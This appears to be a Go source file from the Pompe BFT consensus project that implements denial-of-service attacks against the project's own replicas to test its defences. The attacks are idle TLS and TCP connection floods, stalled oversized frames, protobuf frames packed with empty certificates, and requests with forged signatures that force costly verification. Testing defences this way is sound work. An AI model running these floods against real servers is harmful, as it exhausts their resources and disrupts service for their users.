package attack

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"google.golang.org/protobuf/encoding/protowire"

	"github.com/pompe-bft/pompe/internal/batch"
	"github.com/pompe-bft/pompe/internal/config"
	"github.com/pompe-bft/pompe/internal/crypto"
	"github.com/pompe-bft/pompe/internal/transport"
	"github.com/pompe-bft/pompe/internal/tsproof"
	"github.com/pompe-bft/pompe/internal/wire"
)

// Kind names an attack.
type Kind string

// The attacks, one per finding of the resource review.
const (
	// IdleTLS opens Conns client connections from one IP, each with a fresh
	// key, and sends nothing after the handshake.
	IdleTLS Kind = "idle-tls"
	// IdleTCP opens Conns TCP connections to the peer ports, spread over
	// the source IPs, that never start TLS.
	IdleTCP Kind = "idle-tcp"
	// StalledFrames completes TLS, announces a frame of FrameBytes (half
	// the connections: half of that), sends half of what it announced and
	// stalls.
	StalledFrames Kind = "stalled-frames"
	// EmptyRepeated sends client frames of FrameBytes (half the
	// connections: half of that) holding one sequence request whose proof
	// is millions of empty certificates.
	EmptyRepeated Kind = "empty-repeated"
	// BadProofs sends sequence requests whose proofs have valid Merkle
	// paths under roots with bad signatures, as fast as the connection
	// takes them.
	BadProofs Kind = "bad-proofs"
)

// Kinds lists every attack.
var Kinds = []Kind{IdleTLS, IdleTCP, StalledFrames, EmptyRepeated, BadProofs, GetAmplify, BodyFlood, ResendAmplify}

// Parse reads an attack name.
func Parse(s string) (Kind, error) {
	for _, k := range Kinds {
		if string(k) == s {
			return k, nil
		}
	}
	return "", fmt.Errorf("attack: unknown kind %q (kinds: %s)", s, Names())
}

// Names lists the kinds for help texts.
func Names() string {
	names := make([]string, len(Kinds))
	for i, k := range Kinds {
		names[i] = string(k)
	}
	return strings.Join(names, ", ")
}

// Options configure one attack. Zero fields take the kind's defaults.
type Options struct {
	Kind    Kind
	Genesis *config.Genesis
	// Targets are the replica indexes attacked (default: all).
	Targets []int
	// Conns is the number of connections kept open per target.
	Conns int
	// Sources are the local IPs connections come from, in turn.
	Sources []string
	// FrameBytes is the announced (stalled-frames) or actual
	// (empty-repeated) frame size.
	FrameBytes int
	// DialTimeout bounds one dial and handshake.
	DialTimeout time.Duration
	// Gets and ValueBytes size get-amplify: reads per batch, bytes of the
	// value read; BodyBytes is the batch size of body-flood.
	Gets       int
	ValueBytes int
	BodyBytes  int
	// Redial is the pause before a slot dials again (default 200 ms): long
	// enough that an attacker on the replicas' own machine does not starve
	// them of CPU by spinning, which would measure the machine, not the
	// defence.
	Redial time.Duration
	// DialRate, when positive, bounds the dials per second of the whole
	// attack. On the replicas' own machine an unbounded idle-tls attacker
	// (1,600 refused dials a second, each a TCP connect and the start of a
	// TLS handshake) spent 70-85% of a core at nice 19, and the kernel's
	// share of each connect besides; the bound keeps what is measured the
	// replicas' cost, not the attacker's.
	DialRate int
}

// DefaultDialRate is the dial rate of `pompe attack` and `pompe local
// --attack` (and of the attack tests): on a 2-core machine shared with the
// replicas, an idle-tls attacker dialing 400 times a second used about 12%
// of a core (top, during `pompe local --attack idle-tls`), while an
// unbounded one took 70-85% of a core and the kernel's loopback work
// besides, which the replicas and correct clients then lost.
const DefaultDialRate = 400

// Defaults per kind: the counts the review used, scaled to stay within a
// few seconds on a small machine.
func (o Options) withDefaults() Options {
	if o.DialTimeout <= 0 {
		o.DialTimeout = 5 * time.Second
	}
	if o.Redial <= 0 {
		o.Redial = 200 * time.Millisecond
	}
	if len(o.Targets) == 0 && o.Genesis != nil {
		for i := range o.Genesis.Replicas {
			o.Targets = append(o.Targets, i)
		}
	}
	switch o.Kind {
	case IdleTLS:
		def(&o.Conns, 2000)
		defSources(&o.Sources, 1)
	case IdleTCP:
		def(&o.Conns, 1024)
		defSources(&o.Sources, 16)
	case StalledFrames:
		def(&o.Conns, 128)
		def(&o.FrameBytes, 8<<20-64)
		defSources(&o.Sources, 8)
	case EmptyRepeated:
		def(&o.Conns, 8)
		def(&o.FrameBytes, 8<<20-64)
		defSources(&o.Sources, 8)
	case BadProofs:
		def(&o.Conns, 4)
		defSources(&o.Sources, 4)
	case GetAmplify, ResendAmplify:
		def(&o.Gets, defaultGets)
		def(&o.ValueBytes, defaultValueBytes)
		if o.Kind == ResendAmplify {
			defSources(&o.Sources, 1)
		}
	case BodyFlood:
		def(&o.Conns, 4)
		def(&o.BodyBytes, defaultBodyBytes)
		defSources(&o.Sources, 4)
	}
	return o
}

func def(v *int, d int) {
	if *v <= 0 {
		*v = d
	}
}

// defSources picks n loopback addresses outside 127.0.0.0/24, where local
// testnets put their replicas, so that the attacker is a stranger.
func defSources(s *[]string, n int) {
	if len(*s) > 0 {
		return
	}
	for i := range n {
		*s = append(*s, fmt.Sprintf("127.0.%d.%d", 100+i/250, 1+i%250))
	}
}

// Stats count what an attack did.
type Stats struct {
	Dials        atomic.Uint64 // connection attempts
	Established  atomic.Uint64 // connections that got as far as the attack needs
	Open         atomic.Int64  // connections open now
	Refused      atomic.Uint64 // dials or handshakes that failed
	ClosedByPeer atomic.Uint64 // connections the replica ended
	Frames       atomic.Uint64 // frames (or frame starts) written
	ReplyBytes   atomic.Uint64 // bytes the replicas sent back (resend-amplify)
}

func (s *Stats) String() string {
	return fmt.Sprintf("dials %d, established %d, open %d, refused %d, closed by replica %d, frames %d, reply bytes %d",
		s.Dials.Load(), s.Established.Load(), s.Open.Load(), s.Refused.Load(), s.ClosedByPeer.Load(), s.Frames.Load(), s.ReplyBytes.Load())
}

// Run runs the attack until ctx ends and returns what it did. Each of the
// Conns slots per target keeps one connection; a slot whose connection
// ends dials again after a short pause.
func Run(ctx context.Context, o Options, st *Stats) error {
	o = o.withDefaults()
	if o.Genesis == nil {
		return fmt.Errorf("attack: no genesis")
	}
	if _, err := Parse(string(o.Kind)); err != nil {
		return err
	}
	if err := o.checkAmplify(); err != nil {
		return err
	}
	if o.Kind == GetAmplify {
		return runGetAmplify(ctx, o, st)
	}
	if o.Kind == ResendAmplify {
		return runResendAmplify(ctx, o, st)
	}
	committee, err := o.Genesis.Committee()
	if err != nil {
		return err
	}
	var dials <-chan time.Time
	if o.DialRate > 0 {
		tick := time.NewTicker(time.Second / time.Duration(o.DialRate))
		defer tick.Stop()
		dials = tick.C
	}
	var wg sync.WaitGroup
	for _, target := range o.Targets {
		if target < 0 || target >= len(o.Genesis.Replicas) {
			return fmt.Errorf("attack: no replica %d", target)
		}
		a := &attacker{o: o, st: st, committee: committee, target: target, dials: dials,
			pub: committee.PublicKey(uint32(target)), info: o.Genesis.Replicas[target]}
		for slot := range o.Conns {
			wg.Add(1)
			go func() {
				defer wg.Done()
				a.slot(ctx, slot)
			}()
		}
	}
	wg.Wait()
	return nil
}

type attacker struct {
	o         Options
	dials     <-chan time.Time // nil: dial at will
	st        *Stats
	committee *crypto.Committee
	target    int
	pub       crypto.PublicKey
	info      config.ReplicaInfo
}

// slot keeps one hostile connection going until ctx ends.
func (a *attacker) slot(ctx context.Context, slot int) {
	source := a.o.Sources[slot%len(a.o.Sources)]
	frameBytes := a.o.FrameBytes
	if slot%2 == 1 {
		frameBytes /= 2
	}
	var frame []byte
	if a.o.Kind == EmptyRepeated {
		frame = emptyRepeatedFrame(frameBytes)
	}
	var id *identity
	for ctx.Err() == nil {
		if a.dials != nil {
			select {
			case <-a.dials:
			case <-ctx.Done():
				return
			}
		}
		a.once(ctx, source, frameBytes, frame, &id)
		select {
		case <-ctx.Done():
		case <-time.After(a.o.Redial):
		}
	}
}

// identity is a client key and its certificate.
type identity struct {
	key  crypto.PrivateKey
	cert tls.Certificate
}

// once makes one connection. Every connection that completes its
// handshake uses a fresh key; a key whose dial or handshake was refused is
// used again for the slot's next dial (the replica never got past TLS with
// it). Generating a key and certificate per refused dial made the attacker
// spend most of a core on this 2-core machine (1,600 refused dials a
// second under idle-tls), which measured the attacker's CPU, not the
// replicas': a real attacker brings its own machine.
func (a *attacker) once(ctx context.Context, source string, frameBytes int, frame []byte, id **identity) {
	a.st.Dials.Add(1)
	addr := a.info.ClientAddress
	if a.o.Kind == IdleTCP {
		addr = a.info.PeerAddress
	}
	dctx, cancel := context.WithTimeout(ctx, a.o.DialTimeout)
	defer cancel()
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(source)}}
	raw, err := d.DialContext(dctx, "tcp", addr)
	if err != nil {
		a.st.Refused.Add(1)
		return
	}
	defer raw.Close()
	stop := context.AfterFunc(ctx, func() { raw.Close() })
	defer stop()
	if a.o.Kind == IdleTCP {
		a.hold(raw, raw)
		return
	}
	if *id == nil {
		key, err := crypto.GenerateKey(rand.Reader)
		if err != nil {
			return
		}
		cert, err := transport.SelfSignedCert(key)
		if err != nil {
			return
		}
		*id = &identity{key: key, cert: cert}
	}
	key := (*id).key
	tc := tls.Client(raw, transport.ClientDialTLS((*id).cert, a.pub))
	if err := tc.HandshakeContext(dctx); err != nil {
		a.st.Refused.Add(1)
		return
	}
	*id = nil // the replica has seen this key: the next connection gets a fresh one
	switch a.o.Kind {
	case IdleTLS:
		a.hold(raw, tc)
	case StalledFrames:
		start := binary.BigEndian.AppendUint32(nil, uint32(frameBytes))
		start = append(start, make([]byte, frameBytes/2)...)
		if _, err := tc.Write(start); err != nil {
			a.closed()
			return
		}
		a.st.Frames.Add(1)
		a.hold(raw, tc)
	case EmptyRepeated:
		a.established()
		defer a.st.Open.Add(-1)
		for ctx.Err() == nil {
			if _, err := tc.Write(frame); err != nil {
				a.st.ClosedByPeer.Add(1)
				return
			}
			a.st.Frames.Add(1)
		}
	case BodyFlood:
		a.bodyFlood(ctx, tc, key, a.o.BodyBytes)
	case BadProofs:
		a.established()
		defer a.st.Open.Add(-1)
		id := crypto.ClientIDOf(key.Public())
		for nonce := uint64(1); ctx.Err() == nil; nonce++ {
			frame, err := wire.AppendFrame(nil, a.badProofRequest(id, nonce))
			if err != nil {
				return
			}
			if _, err := tc.Write(frame); err != nil {
				a.st.ClosedByPeer.Add(1)
				return
			}
			a.st.Frames.Add(1)
		}
	}
}

func (a *attacker) established() {
	a.st.Established.Add(1)
	a.st.Open.Add(1)
}

func (a *attacker) closed() { a.st.ClosedByPeer.Add(1) }

// hold keeps conn open, reading (and discarding) until the replica ends it.
func (a *attacker) hold(raw net.Conn, r interface{ Read([]byte) (int, error) }) {
	a.established()
	defer a.st.Open.Add(-1)
	var b [512]byte
	for {
		if _, err := r.Read(b[:]); err != nil {
			a.closed()
			return
		}
	}
}

// emptyRepeatedFrame is a framed ClientMessage of about size bytes: a
// sequence request whose proof holds empty certificates, two bytes each on
// the wire, built with the field numbers of the schema.
func emptyRepeatedFrame(size int) []byte {
	cm := (&wire.ClientMessage{}).ProtoReflect().Descriptor()
	seqReq := cm.Fields().ByName("sequence_request")
	proofField := seqReq.Message().Fields().ByName("proof")
	certsField := proofField.Message().Fields().ByName("certs")
	entries := max(1, (size-16)/2)
	var proof []byte
	for range entries {
		proof = protowire.AppendTag(proof, certsField.Number(), protowire.BytesType)
		proof = protowire.AppendVarint(proof, 0)
	}
	req := protowire.AppendTag(nil, proofField.Number(), protowire.BytesType)
	req = protowire.AppendBytes(req, proof)
	body := protowire.AppendTag(nil, seqReq.Number(), protowire.BytesType)
	body = protowire.AppendBytes(body, req)
	return append(binary.BigEndian.AppendUint32(nil, uint32(len(body))), body...)
}

// badProofRequest is a sequence request for a fresh digest whose 2f+1
// certificates carry correct Merkle paths under roots signed with random
// bytes: every check but the signature passes, so each costs the replica
// a signature verification unless it remembers the failure.
func (a *attacker) badProofRequest(id crypto.ClientID, nonce uint64) *wire.ClientMessage {
	raw := wire.Marshal(&wire.Batch{Submitter: id[:], Nonce: nonce, Commands: []*wire.Command{{ClientId: id[:], Seq: nonce, Payload: []byte("x")}}})
	digest := batch.DigestOf(raw)
	d := digest[:]
	q := a.committee.Quorum()
	ts := time.Now().UnixMicro()
	var certs []*wire.TimestampCert
	for r := range q {
		leaves := []tsproof.Hash{tsproof.Leaf(a.committee.Cluster(), uint32(r), d, ts), {1}, {2}, {3}}
		tree, err := tsproof.Build(leaves)
		if err != nil {
			continue
		}
		sig := make([]byte, crypto.SignatureBytes)
		rand.Read(sig)
		certs = append(certs, &wire.TimestampCert{Replica: uint32(r), Ts: ts, Root: tree.Root[:],
			LeafCount: uint32(len(leaves)), Index: 0, Path: tree.Paths[0], Sig: sig})
	}
	return &wire.ClientMessage{Body: &wire.ClientMessage_SequenceRequest{SequenceRequest: &wire.SequenceRequest{
		Digest: d, Ts: ts, Proof: &wire.SequenceProof{Certs: certs}, Batch: raw}}}
}
